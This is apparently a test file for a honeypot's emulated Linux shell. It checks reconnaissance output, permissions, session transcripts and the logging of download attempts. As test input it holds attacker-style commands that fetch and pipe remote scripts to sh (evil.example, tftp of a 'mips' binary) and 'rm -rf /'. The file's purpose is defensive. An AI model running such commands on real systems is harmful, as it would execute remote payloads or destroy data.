import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LineEditor } from './line-editor.js';
import { parseCommandLine } from './parse.js';
import { makeProfile } from './profile.js';
import { MAX_TRANSCRIPT_CHARS, ShellSession } from './session.js';
import { FakeShell, MAX_HISTORY_CHARS, MAX_OUTPUT_CHARS } from './shell.js';
import { MAX_STEP_OUTPUT_BYTES } from '../protocol.js';

const NOW = new Date('2024-06-10T12:00:00Z');
const profile = (user = 'root') => makeProfile({ hostname: 'srv01', user, clientIp: '203.0.113.5', ip: '10.0.0.7', now: () => NOW });

function run(shell: FakeShell, line: string): string {
  return shell.run(line).output;
}

describe('the fake shell answers the usual reconnaissance like an Ubuntu 22.04 server', () => {
  const shell = new FakeShell(profile());

  it.each([
    ['uname -a', 'Linux srv01 5.15.0-113-generic #123-Ubuntu SMP Mon Jun 10 08:16:17 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n'],
    ['uname -r', '5.15.0-113-generic\n'],
    ['id', 'uid=0(root) gid=0(root) groups=0(root)\n'],
    ['whoami', 'root\n'],
    ['hostname', 'srv01\n'],
    ['pwd', '/root\n'],
    ['echo hello   world', 'hello world\n'],
    ['echo "$USER@$HOSTNAME" $(whoami)', 'root@srv01 root\n'],
    ['echo -n x', 'x'],
    ['cat /etc/hostname', 'srv01\n'],
    ['nproc', '2\n'],
    ['foo --bar', '-bash: foo: command not found\n'],
  ])('%s', (line, expected) => {
    expect(run(shell, line)).toBe(expected);
  });

  it('shows uptime and w consistently with the clock and the client address', () => {
    expect(run(shell, 'uptime')).toMatch(/^ 12:00:00 up 3 days, {2}4:17, {2}1 user, {2}load average: /);
    expect(run(shell, 'w')).toContain('root     pts/0    203.0.113.5');
  });

  it('shows the decky address in ifconfig and ip a', () => {
    expect(run(shell, 'ifconfig')).toContain('inet 10.0.0.7  netmask 255.255.255.0');
    expect(run(shell, 'ip a')).toContain('inet 10.0.0.7/24 brd 10.0.0.255 scope global eth0');
  });

  it('navigates the filesystem and lists it', () => {
    const s = new FakeShell(profile());
    expect(run(s, 'cd /etc && pwd')).toBe('/etc\n');
    expect(run(s, 'ls')).toContain('os-release');
    expect(run(s, 'ls -la /root')).toMatch(/^total \d+\ndrwx------ +\d+ root +root +4096 .* \.\n/);
    expect(run(s, 'cd /nope')).toBe('-bash: cd: /nope: No such file or directory\n');
    expect(run(s, 'cd; pwd')).toBe('/root\n');
    expect(s.prompt()).toBe('root@srv01:~# ');
  });

  it('keeps what the attacker writes for the rest of the session, within a budget', () => {
    const s = new FakeShell(profile());
    expect(run(s, 'echo test > /tmp/t && cat /tmp/t')).toBe('test\n');
    expect(run(s, 'echo more >> /tmp/t; wc -l /tmp/t')).toBe('2 /tmp/t\n');
    expect(run(s, 'rm /tmp/t; cat /tmp/t')).toBe('cat: /tmp/t: No such file or directory\n');
    expect(run(s, 'mkdir /tmp/.x && ls -a /tmp')).toBe('.  ..  .x\n');
  });

  it('enforces permissions for an unprivileged user', () => {
    const s = new FakeShell(profile('ubuntu'));
    expect(run(s, 'id')).toMatch(/^uid=1000\(ubuntu\) gid=1000\(ubuntu\) groups=1000\(ubuntu\),4\(adm\)/);
    expect(run(s, 'cat /etc/shadow')).toBe('cat: /etc/shadow: Permission denied\n');
    expect(run(s, 'echo x > /etc/x')).toBe('-bash: /etc/x: Permission denied\n');
    expect(run(s, 'sudo id')).toBe('ubuntu is not in the sudoers file.  This incident will be reported.\n');
    expect(s.prompt()).toBe('ubuntu@srv01:~$ ');
  });

  it('supports pipes, && / || and redirections', () => {
    const s = new FakeShell(profile());
    expect(run(s, 'cat /etc/passwd | grep root | head -1')).toBe('root:x:0:0:root:/root:/bin/bash\n');
    expect(run(s, 'false || echo fallback')).toBe('fallback\n');
    expect(run(s, 'false && echo never')).toBe('');
    expect(run(s, 'cat /nope 2>/dev/null; echo $?')).toBe('1\n');
    expect(run(s, 'echo "unterminated')).toBe('-bash: unexpected EOF while looking for matching `"\'\n');
  });
});

describe('the shell reports what the attacker did as events, and never reaches the network', () => {
  it('logs every line as one command event', () => {
    const s = new FakeShell(profile());
    const r = s.run('  cd /tmp; ls  ');
    expect(r.events).toEqual([{ type: 'command', fields: { cmd: 'cd /tmp; ls', cwd: '/root', user: 'root', channel: 'shell' } }]);
    expect(s.run('   ').events).toEqual([]);
  });

  it('logs wget, curl, tftp and nested downloads as download attempts that fail like an egress-filtered host', () => {
    const s = new FakeShell(profile());
    const w = s.run('wget http://evil.example/bot.sh');
    expect(w.output).toContain("wget: unable to resolve host address 'evil.example'");
    expect(w.exitCode).toBe(4);
    const c = s.run('curl -s http://198.51.100.7:8080/x | sh');
    expect(c.output).toBe('');
    const t = s.run('cd /tmp || cd /var/run; tftp -g -r mips 198.51.100.9; sh -c "curl -O http://a.example/b"');
    const downloads = [...w.events, ...c.events, ...t.events].filter((e) => e.type === 'download_attempt');
    expect(downloads.map((d) => [d.fields.tool, d.fields.url])).toEqual([
      ['wget', 'http://evil.example/bot.sh'],
      ['curl', 'http://198.51.100.7:8080/x'],
      ['tftp', '198.51.100.9'],
      ['curl', 'http://a.example/b'],
    ]);
  });

  it('ends the session on exit', () => {
    const s = new FakeShell(profile());
    expect(s.run('echo a; exit; echo b')).toMatchObject({ output: 'a\n', exit: true });
  });
});

describe('the interactive session behaves like a terminal', () => {
  it('echoes input, handles backspace and Ctrl-C, and prompts after each line', () => {
    const s = new ShellSession({ profile: profile(), service: 'ssh', pty: true });
    expect(s.start()).toContain('Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-113-generic x86_64)');
    expect(s.feed('ix\x7fd\r').output).toBe('ix\b \bd\r\nuid=0(root) gid=0(root) groups=0(root)\r\nroot@srv01:~# ');
    expect(s.feed('rm -rf /\x03').output).toBe('rm -rf /^C\r\nroot@srv01:~# ');
    expect(s.feed('\x1b[A\r').output).toBe('\r\nroot@srv01:~# ');
    expect(s.feed('\x04')).toMatchObject({ output: 'logout\r\n', exit: true });
  });

  it('reads lines without echo or prompts when no terminal is attached', () => {
    const s = new ShellSession({ profile: profile(), service: 'ssh', pty: false });
    expect(s.start()).toBe('');
    expect(s.feed('whoami\nhostname\n').output).toBe('root\nsrv01\n');
  });

  it('summarises the session with a transcript that is capped and flagged when cut', () => {
    const s = new ShellSession({ profile: profile(), service: 'telnet', pty: false });
    s.feed('id\n');
    for (let i = 0; i < 200; i++) s.feed('cat /proc/cpuinfo\n');
    const sum = s.summary();
    expect(sum).toMatchObject({ service: 'telnet', user: 'root', commands: 201, truncated: true });
    expect(sum.transcript.length).toBeLessThanOrEqual(MAX_TRANSCRIPT_CHARS);
    const entries = JSON.parse(sum.transcript) as [number, string, string][];
    expect(entries[0]).toEqual([0, 'i', 'id']);
  });

  it('hands over input typed ahead of a prompt change', () => {
    const e = new LineEditor({ echo: true, maxLineChars: 100 });
    e.push('user\r\npass\r\n');
    expect(e.next()).toEqual({ echo: 'user\r\n', item: { kind: 'line', text: 'user' } });
    expect(e.takePending()).toBe('\npass\r\n');
  });
});

describe('the shell and its parser are total', () => {
  it('never throws and bounds its output, whatever the command line', () => {
    const s = new FakeShell(profile());
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 400 }), fc.array(fc.constantFrom('echo', 'cat', '$(', ')', '`', '"', "'", '|', '>', '>>', '2>&1', '&&', '||', ';', 'ls', '-la', '/etc', '$HOME', 'sh -c', 'wget', 'x', ' ', '\\'), { maxLength: 40 }).map((a) => a.join(' '))), (line) => {
        const r = s.run(line);
        expect(r.output.length).toBeLessThanOrEqual(MAX_OUTPUT_CHARS);
        expect(r.events.length).toBeGreaterThanOrEqual(line.trim() === '' || s.exited ? 0 : 1);
      }),
      { numRuns: 500 },
    );
  });

  it('never throws in the parser, even on deep substitution', () => {
    const ctx = { variable: () => 'v', substitute: (c: string) => c };
    fc.assert(fc.property(fc.string({ maxLength: 500 }), (line) => void parseCommandLine(line, ctx)));
    expect(parseCommandLine('$('.repeat(50) + ')'.repeat(50), ctx).ok).toBe(true);
  });

  it('never throws in a terminal session fed arbitrary bytes', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 100 }), { maxLength: 20 }), fc.boolean(), (chunks, pty) => {
        const s = new ShellSession({ profile: profile(), service: 'ssh', pty });
        s.start();
        for (const c of chunks) s.feed(c);
        expect(() => JSON.parse(s.summary().transcript)).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });
});

describe('download tools name the URL, not their option arguments', () => {
  it('skips wget -O and curl -o targets', () => {
    const s = new FakeShell(profile());
    const urls = [...s.run('wget -O /tmp/a.sh http://x.example/a.sh').events, ...s.run('curl -o /tmp/b http://y.example/b').events]
      .filter((e) => e.type === 'download_attempt')
      .map((e) => e.fields.url);
    expect(urls).toEqual(['http://x.example/a.sh', 'http://y.example/b']);
  });
});

describe('a session bounds what one input can make it produce and hold', () => {
  it('stops at the step output budget and answers the queued lines on later feeds, every command logged once', () => {
    const s = new ShellSession({ profile: profile(), service: 'ssh', pty: false });
    const lines = 'cat /etc/passwd\n'.repeat(1000);
    let out = s.feed(lines);
    let commands = out.events.filter((e) => e.type === 'command').length;
    expect(out.output.length).toBeLessThan(MAX_STEP_OUTPUT_BYTES + MAX_OUTPUT_CHARS);
    expect(s.hasPendingInput()).toBe(true);
    let feeds = 1;
    while (s.hasPendingInput()) {
      out = s.feed('');
      expect(out.output.length).toBeLessThan(MAX_STEP_OUTPUT_BYTES + MAX_OUTPUT_CHARS);
      commands += out.events.filter((e) => e.type === 'command').length;
      feeds++;
    }
    expect(commands).toBe(1000);
    expect(feeds).toBeGreaterThanOrEqual(2);
  });

  it('keeps at most 64 KiB of history however long the lines', () => {
    const shell = new FakeShell(profile());
    for (let i = 0; i < 100; i++) shell.run(`echo ${String(i).padStart(4, '0')}${'x'.repeat(4000)}`);
    expect(shell.history.join('').length).toBeLessThanOrEqual(MAX_HISTORY_CHARS);
    expect(shell.history.at(-1)).toContain('0099');
  });
});
